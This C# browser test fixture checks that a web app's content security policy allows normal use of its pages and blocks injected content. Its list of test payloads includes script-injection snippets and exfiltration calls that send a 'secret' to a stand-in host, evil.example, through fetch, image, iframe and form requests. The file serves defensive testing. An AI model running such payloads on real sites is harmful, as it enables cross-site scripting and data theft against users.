namespace Signal.Browser.Tests;

/// <summary>The content security policy allows what the page does, all over it, and nothing that somebody would slip in.</summary>
[TestFixture]
[Category("Pages")]
public sealed class KeepingThePolicy : CallTest
{
    private static readonly (string Path, string View)[] Pages =
    [
        ("/", "home"), ("/register", "register"), ("/sign-in", "sign-in"), ("/account", "account"), ("/history", "history"), ("/check", "check"),
        ("/wire", "wire"), ("/call/demo", "lobby"),
    ];

    private static readonly string[] SlippedIn =
    [
        "document.body.append(Object.assign(document.createElement('script'), { text: 'window.harmed = true' }))",
        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/script.js' }))",
        "document.body.innerHTML = '<img src=x onerror=\"window.harmed = true\">'",
        "document.body.setAttribute('onclick', 'window.harmed = true'); document.body.click()",
        "setTimeout('window.harmed = true')",
        "fetch('https://evil.example/?secret').catch(() => {})",
        "document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/?secret' }))",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
        "document.body.append(Object.assign(document.createElement('form'), { action: 'https://evil.example/' })); document.forms[0].submit()",
    ];

    [Test]
    public async Task No_page_breaks_it()
    {
        var ann = await ArriveAsync("Ann Lee");
        await ann.RegisterAsync();
        foreach (var (path, view) in Pages)
        {
            await ann.OpenAsync(path, view);
        }

        await ann.Button("Join call").ClickAsync();
        await ann.ExpectViewAsync("call");
        await (await Chat.OpenAsync(ann)).SayAsync("<b>hello</b>");
        await ann.Button("Leave").ClickAsync();
        await ann.ExpectViewAsync("ended");

        ann.Troubles.Unexpected.Should().BeEmpty("a breach is an error in the console");
    }

    [Test]
    public async Task What_is_slipped_in_does_not_run_and_sends_nothing()
    {
        var ann = await ArriveAsync("Ann");
        ann.Troubles.Expect("ontent ");
        ann.Troubles.Expect("This document requires 'Trusted");
        await ann.Page.AddInitScriptAsync("window.breaches = []; addEventListener('securitypolicyviolation', breach => breaches.push(breach));");
        foreach (var script in SlippedIn)
        {
            await ann.OpenHomeAsync();

            await ann.Page.EvaluateAsync($"() => {{ try {{ {script}; }} catch {{ }} }}");

            await ann.Page.WaitForFunctionAsync("() => breaches.length > 0");
            (await ann.Page.EvaluateAsync<bool>("() => 'harmed' in window")).Should().BeFalse(script);
        }
    }
}
